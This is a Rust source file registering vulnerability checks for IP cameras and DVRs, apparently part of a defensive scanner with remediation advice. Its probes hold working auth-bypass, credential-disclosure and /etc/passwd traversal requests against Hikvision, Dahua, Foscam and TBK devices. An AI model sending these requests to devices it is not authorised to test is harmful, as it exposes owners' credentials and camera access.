//! Static vulnerability check registry
//!
//! Every check is read-only probing: auth-bypass URLs, credential disclosure
//! endpoints, traversal reads. Checks marked unsafe are withheld while
//! `safe_mode` is on.

use super::{CveCheck, CveContext, CveTestResult, ProbeFuture};
use crate::fingerprint::{FingerprintResult, Vendor};
use crate::fuzzer::Severity;
use crate::net::RequestOptions;

fn outcome(
    check: &CveCheck,
    target: &FingerprintResult,
    vulnerable: bool,
    evidence: String,
    poc: String,
) -> CveTestResult {
    CveTestResult {
        cve_id: check.cve_id.to_string(),
        ip: target.ip.clone(),
        port: target.port,
        vendor: target.vendor,
        title: check.title.to_string(),
        severity: check.severity,
        vulnerable,
        evidence,
        poc,
        remediation: check.remediation.to_string(),
    }
}

fn probe_options(ctx: &CveContext) -> RequestOptions {
    RequestOptions::with_timeout(ctx.timeout)
}

/// CVE-2017-7921: Hikvision auth bypass via the `auth=YWRtaW46MTEK` parameter.
fn hikvision_config_bypass<'a>(
    ctx: &'a CveContext,
    target: &'a FingerprintResult,
    check: &'a CveCheck,
) -> ProbeFuture<'a> {
    Box::pin(async move {
        let path = "/System/configurationFile?auth=YWRtaW46MTEK";
        let url = format!("{}{}", target.base_url(), path);
        match ctx.http.get(&url, &probe_options(ctx)).await {
            Ok(response) => {
                let body_is_html = response.body.trim_start().to_ascii_lowercase().starts_with("<");
                let vulnerable = response.status == 200 && !response.body.is_empty() && !body_is_html;
                let evidence = if vulnerable {
                    format!(
                        "configuration file retrieved without credentials ({} bytes)",
                        response.body.len()
                    )
                } else {
                    format!("endpoint answered {}", response.status)
                };
                outcome(check, target, vulnerable, evidence, format!("GET {}", path))
            }
            Err(e) => outcome(check, target, false, format!("probe failed: {}", e), String::new()),
        }
    })
}

/// CVE-2021-36260: Hikvision web server command injection. Confirmation needs
/// an intrusive PUT, so this check only reports endpoint presence.
fn hikvision_weblanguage<'a>(
    ctx: &'a CveContext,
    target: &'a FingerprintResult,
    check: &'a CveCheck,
) -> ProbeFuture<'a> {
    Box::pin(async move {
        let url = format!("{}/SDK/webLanguage", target.base_url());
        match ctx.http.get(&url, &probe_options(ctx)).await {
            Ok(response) if response.status != 404 => outcome(
                check,
                target,
                false,
                format!(
                    "endpoint present (status {}); injection not attempted, verify firmware against vendor advisory",
                    response.status
                ),
                "PUT /SDK/webLanguage".to_string(),
            ),
            Ok(response) => outcome(
                check,
                target,
                false,
                format!("endpoint absent ({})", response.status),
                String::new(),
            ),
            Err(e) => outcome(check, target, false, format!("probe failed: {}", e), String::new()),
        }
    })
}

/// CVE-2021-33044: Dahua loopback-client authentication bypass.
fn dahua_loopback_bypass<'a>(
    ctx: &'a CveContext,
    target: &'a FingerprintResult,
    check: &'a CveCheck,
) -> ProbeFuture<'a> {
    Box::pin(async move {
        let url = format!("{}/RPC2_Login", target.base_url());
        let body = serde_json::json!({
            "method": "global.login",
            "params": {
                "userName": "admin",
                "password": "",
                "clientType": "NetKeyboard",
                "loginType": "Direct",
            },
            "id": 1,
        })
        .to_string();
        let options = RequestOptions {
            timeout: Some(ctx.timeout),
            content_type: Some("application/json".to_string()),
            ..RequestOptions::default()
        };
        match ctx.http.request("POST", &url, Some(body), &options).await {
            Ok(response) => {
                let lower = response.body.to_ascii_lowercase();
                let vulnerable = response.status == 200
                    && (lower.contains("\"result\":true") || lower.contains("session"));
                let evidence = if vulnerable {
                    "login accepted for loopback client type without a password".to_string()
                } else {
                    format!("login rejected ({})", response.status)
                };
                outcome(
                    check,
                    target,
                    vulnerable,
                    evidence,
                    "POST /RPC2_Login clientType=NetKeyboard".to_string(),
                )
            }
            Err(e) => outcome(check, target, false, format!("probe failed: {}", e), String::new()),
        }
    })
}

/// CVE-2020-25078: remote admin password disclosure on white-label firmware.
fn getuser_disclosure<'a>(
    ctx: &'a CveContext,
    target: &'a FingerprintResult,
    check: &'a CveCheck,
) -> ProbeFuture<'a> {
    Box::pin(async move {
        let path = "/config/getuser?index=0";
        let url = format!("{}{}", target.base_url(), path);
        match ctx.http.get(&url, &probe_options(ctx)).await {
            Ok(response) => {
                let vulnerable = response.status == 200
                    && response.body.contains("name=")
                    && response.body.contains("pass=");
                let evidence = if vulnerable {
                    "admin credentials returned in plain text".to_string()
                } else {
                    format!("endpoint answered {}", response.status)
                };
                outcome(check, target, vulnerable, evidence, format!("GET {}", path))
            }
            Err(e) => outcome(check, target, false, format!("probe failed: {}", e), String::new()),
        }
    })
}

/// CVE-2018-9995: DVR authentication bypass via `Cookie: uid=admin`.
fn dvr_cookie_bypass<'a>(
    ctx: &'a CveContext,
    target: &'a FingerprintResult,
    check: &'a CveCheck,
) -> ProbeFuture<'a> {
    Box::pin(async move {
        let path = "/device.rsp?opt=user&cmd=list";
        let url = format!("{}{}", target.base_url(), path);
        let options = probe_options(ctx).header("Cookie", "uid=admin");
        match ctx.http.get(&url, &options).await {
            Ok(response) => {
                let lower = response.body.to_ascii_lowercase();
                let vulnerable =
                    response.status == 200 && (lower.contains("uid") || lower.contains("pwd"));
                let evidence = if vulnerable {
                    "user list returned for forged admin cookie".to_string()
                } else {
                    format!("endpoint answered {}", response.status)
                };
                outcome(
                    check,
                    target,
                    vulnerable,
                    evidence,
                    format!("GET {} with Cookie: uid=admin", path),
                )
            }
            Err(e) => outcome(check, target, false, format!("probe failed: {}", e), String::new()),
        }
    })
}

/// CVE-2017-5674: camera credentials readable via `system.ini`.
fn system_ini_disclosure<'a>(
    ctx: &'a CveContext,
    target: &'a FingerprintResult,
    check: &'a CveCheck,
) -> ProbeFuture<'a> {
    Box::pin(async move {
        let path = "/system.ini?loginuse&loginpas=";
        let url = format!("{}{}", target.base_url(), path);
        match ctx.http.get(&url, &probe_options(ctx)).await {
            Ok(response) => {
                let body_is_html = response.body.trim_start().to_ascii_lowercase().starts_with("<");
                let vulnerable = response.status == 200 && response.body.len() > 100 && !body_is_html;
                let evidence = if vulnerable {
                    format!("settings dump retrieved ({} bytes)", response.body.len())
                } else {
                    format!("endpoint answered {}", response.status)
                };
                outcome(check, target, vulnerable, evidence, format!("GET {}", path))
            }
            Err(e) => outcome(check, target, false, format!("probe failed: {}", e), String::new()),
        }
    })
}

/// Generic path traversal against the web root.
fn path_traversal<'a>(
    ctx: &'a CveContext,
    target: &'a FingerprintResult,
    check: &'a CveCheck,
) -> ProbeFuture<'a> {
    Box::pin(async move {
        let candidates = [
            "/../../../../etc/passwd",
            "/..%2f..%2f..%2f..%2fetc%2fpasswd",
            "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        ];
        for path in candidates {
            let url = format!("{}{}", target.base_url(), path);
            let Ok(response) = ctx.http.get(&url, &probe_options(ctx)).await else {
                continue;
            };
            if response.status == 200 && response.body.contains("root:") {
                return outcome(
                    check,
                    target,
                    true,
                    "/etc/passwd content returned through the web server".to_string(),
                    format!("GET {}", path),
                );
            }
        }
        outcome(
            check,
            target,
            false,
            "traversal payloads rejected".to_string(),
            String::new(),
        )
    })
}

/// All registered checks.
pub fn registry() -> Vec<CveCheck> {
    vec![
        CveCheck {
            cve_id: "CVE-2017-7921",
            vendor: Some(Vendor::Hikvision),
            title: "Hikvision improper authentication (config file disclosure)",
            severity: Severity::Critical,
            description: "A crafted auth parameter bypasses authentication and exposes the device configuration, including user credentials.",
            category: "auth_bypass",
            safe: true,
            affected_models: &["DS-2CD2xx2F-I", "DS-2CD2xx2FWD", "DS-2CD4xx5"],
            affected_firmware: &["V5.2.0", "V5.3.0", "V5.4.0"],
            remediation: "Upgrade to firmware V5.4.5 or later and rotate all device credentials.",
            probe: hikvision_config_bypass,
        },
        CveCheck {
            cve_id: "CVE-2021-36260",
            vendor: Some(Vendor::Hikvision),
            title: "Hikvision web server command injection",
            severity: Severity::Critical,
            description: "Unauthenticated command injection in the webLanguage handler of affected firmware.",
            category: "rce",
            safe: false,
            affected_models: &[],
            affected_firmware: &[],
            remediation: "Apply the September 2021 Hikvision security patch.",
            probe: hikvision_weblanguage,
        },
        CveCheck {
            cve_id: "CVE-2021-33044",
            vendor: Some(Vendor::Dahua),
            title: "Dahua loopback client authentication bypass",
            severity: Severity::Critical,
            description: "Identity authentication is skipped for loopback client types during login.",
            category: "auth_bypass",
            safe: true,
            affected_models: &[],
            affected_firmware: &[],
            remediation: "Install firmware released after 2021-09 and restrict management access.",
            probe: dahua_loopback_bypass,
        },
        CveCheck {
            cve_id: "CVE-2020-25078",
            vendor: None,
            title: "Remote admin password disclosure (getuser)",
            severity: Severity::Critical,
            description: "The getuser CGI returns the administrator name and password without authentication on several white-label camera lines.",
            category: "info_disclosure",
            safe: true,
            affected_models: &[],
            affected_firmware: &[],
            remediation: "Upgrade firmware; if no fix exists, isolate the device from untrusted networks.",
            probe: getuser_disclosure,
        },
        CveCheck {
            cve_id: "CVE-2018-9995",
            vendor: None,
            title: "DVR authentication bypass via forged cookie",
            severity: Severity::Critical,
            description: "Setting `Cookie: uid=admin` exposes device credentials on TBK-derived DVRs.",
            category: "auth_bypass",
            safe: true,
            affected_models: &["TBK DVR4104", "TBK DVR4216"],
            affected_firmware: &[],
            remediation: "Replace or firewall affected recorders; vendor patches are unavailable for most OEM builds.",
            probe: dvr_cookie_bypass,
        },
        CveCheck {
            cve_id: "CVE-2017-5674",
            vendor: Some(Vendor::Foscam),
            title: "Camera settings and credential disclosure via system.ini",
            severity: Severity::High,
            description: "The system.ini endpoint dumps device settings including login credentials without authentication.",
            category: "info_disclosure",
            safe: true,
            affected_models: &[],
            affected_firmware: &[],
            remediation: "Upgrade firmware and rotate credentials stored on the device.",
            probe: system_ini_disclosure,
        },
        CveCheck {
            cve_id: "GENERIC-TRAVERSAL",
            vendor: None,
            title: "Web server path traversal",
            severity: Severity::High,
            description: "The embedded web server serves files outside the web root for dot-dot paths.",
            category: "traversal",
            safe: true,
            affected_models: &[],
            affected_firmware: &[],
            remediation: "Upgrade the device firmware; traversal fixes ship in vendor web server updates.",
            probe: path_traversal,
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registry_ids_are_unique() {
        let checks = registry();
        let mut ids: Vec<&str> = checks.iter().map(|c| c.cve_id).collect();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), checks.len());
    }

    #[test]
    fn unsafe_checks_are_marked() {
        let checks = registry();
        let unsafe_ids: Vec<&str> = checks
            .iter()
            .filter(|c| !c.safe)
            .map(|c| c.cve_id)
            .collect();
        assert_eq!(unsafe_ids, vec!["CVE-2021-36260"]);
    }

    #[test]
    fn every_check_carries_remediation() {
        for check in registry() {
            assert!(!check.remediation.is_empty(), "{}", check.cve_id);
            assert!(!check.category.is_empty(), "{}", check.cve_id);
        }
    }
}
